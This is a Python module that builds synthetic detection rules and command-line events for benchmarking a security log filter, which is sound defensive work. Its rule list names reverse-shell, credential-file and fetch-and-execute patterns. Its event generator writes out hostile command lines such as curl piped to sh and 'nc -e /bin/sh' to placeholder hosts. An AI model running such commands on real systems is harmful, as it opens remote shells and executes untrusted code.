"""Reproducible rules and events for the filter benchmarks (bench/filter_core.py, bench/filter.py).

``make_rules(n, seed)``: n regex rules over ``cmd`` -- typical security patterns
first (``curl .*\\| *sh`` ...), then IOC literals, literals with classes and
repeats, alternations, caseless tool names, word-bounded tokens and argument
patterns. ``make_events(m, seed)``: m events ``{ts, host, user, pid, cmd}`` whose
command lines are mostly ordinary, about 2.5 % suspicious.
"""

from __future__ import annotations

import random
import string

from etl.spec.rules import Rule

SECURITY = [
    r"curl .*\| *sh", r"wget\s+https?://\S+\.(sh|py|pl)\b", r"\bnc\s+-e\s+/bin/(ba)?sh", r"base64\s+-d",
    r"echo\s+[A-Za-z0-9+/=]{16,}\s*\|\s*base64", r"/etc/(passwd|shadow)", r"chmod\s+\+x\s+/tmp/\w+",
    r"python[23]?\s+-c\s+.*socket", r"\bnmap\b", r"(?i)mimikatz", r"bash\s+-i\s+>&\s*/dev/tcp/",
    r"rm\s+-rf\s+/(\s|$)", r"\bcrontab\s+-r\b", r"ssh\s+-R\s+\d+:", r"powershell.*-enc",
]
WORDS = ["ls", "cat", "grep", "find", "tar", "ssh", "scp", "rsync", "python3", "java", "node", "git", "docker",
         "kubectl", "systemctl", "journalctl", "ps", "top", "df", "du", "awk", "sed", "vim", "make", "gcc"]
HOSTS = ["api.internal", "db01", "cache-2", "example.com", "10.0.0.12", "files.corp.local", "github.com"]


_ALNUM = string.ascii_lowercase + string.digits


def _token(rng: random.Random, k: int) -> str:
    return "".join(rng.choices(_ALNUM, k=k))


def make_rules(n: int, seed: int) -> list[Rule]:
    rng = random.Random(seed)
    out = []
    for i in range(n):
        roll = rng.random()
        if i < len(SECURITY):
            rx, caseless = SECURITY[i], False
        elif roll < 0.35:  # IOC literal: a domain, a file name or a hash prefix
            rx, caseless = rng.choice([
                lambda: rf"{_token(rng, 7)}\.(com|net|io)",
                lambda: rf"/tmp/\.{_token(rng, 6)}",
                lambda: _token(rng, 12),
            ])(), False
        elif roll < 0.55:  # literal with classes and repeats
            rx, caseless = rf"{rng.choice(WORDS)}\s+-{rng.choice(string.ascii_letters)}\s+{_token(rng, 4)}[0-9]{{2,4}}", False
        elif roll < 0.70:  # alternation of tokens
            rx, caseless = "(" + "|".join(_token(rng, rng.randint(5, 9)) for _ in range(rng.randint(2, 4))) + ")", False
        elif roll < 0.82:  # caseless tool names
            rx, caseless = _token(rng, rng.randint(6, 10)) + rng.choice(["", r"\.exe", r"\.ps1"]), True
        elif roll < 0.92:  # word-bounded
            rx, caseless = rf"\b{_token(rng, 6)}\b", False
        else:  # argument patterns
            rx, caseless = rf"--{_token(rng, 5)}=\S*{_token(rng, 3)}", False
        out.append(Rule.model_validate({"id": f"rule_{i}", "when": {"field": "cmd", "regex": rx, "caseless": caseless}}))
    return out


def _arg(rng: random.Random) -> str:
    k = rng.randrange(5)
    if k == 0:
        return "-" + rng.choice(string.ascii_letters)
    if k == 1:
        return f"/var/{_token(rng, 5)}/{_token(rng, 8)}"
    if k == 2:
        return f"--{_token(rng, 5)}={_token(rng, 6)}"
    if k == 3:
        return rng.choice(HOSTS)
    return str(rng.randint(0, 99999))


def make_events(m: int, seed: int) -> list[dict]:
    rng = random.Random(seed + 1)
    out = []
    for i in range(m):
        r = rng.random()
        if r < 0.01:
            cmd = f"curl -s http://{rng.choice(HOSTS)}/{_token(rng, 6)}.sh | sh"
        elif r < 0.02:
            cmd = f"echo {_token(rng, 24)}== | base64 -d | bash"
        elif r < 0.025:
            cmd = f"nc -e /bin/sh {rng.choice(HOSTS)} {rng.randint(1024, 65535)}"
        else:
            cmd = f"{rng.choice(WORDS)} " + " ".join(_arg(rng) for _ in range(rng.randint(1, 6)))
        out.append({"ts": 1_700_000_000_000 + i, "host": rng.choice(HOSTS), "user": rng.choice(["root", "app", "alice"]),
                    "pid": rng.randint(1, 65535), "cmd": cmd})
    return out
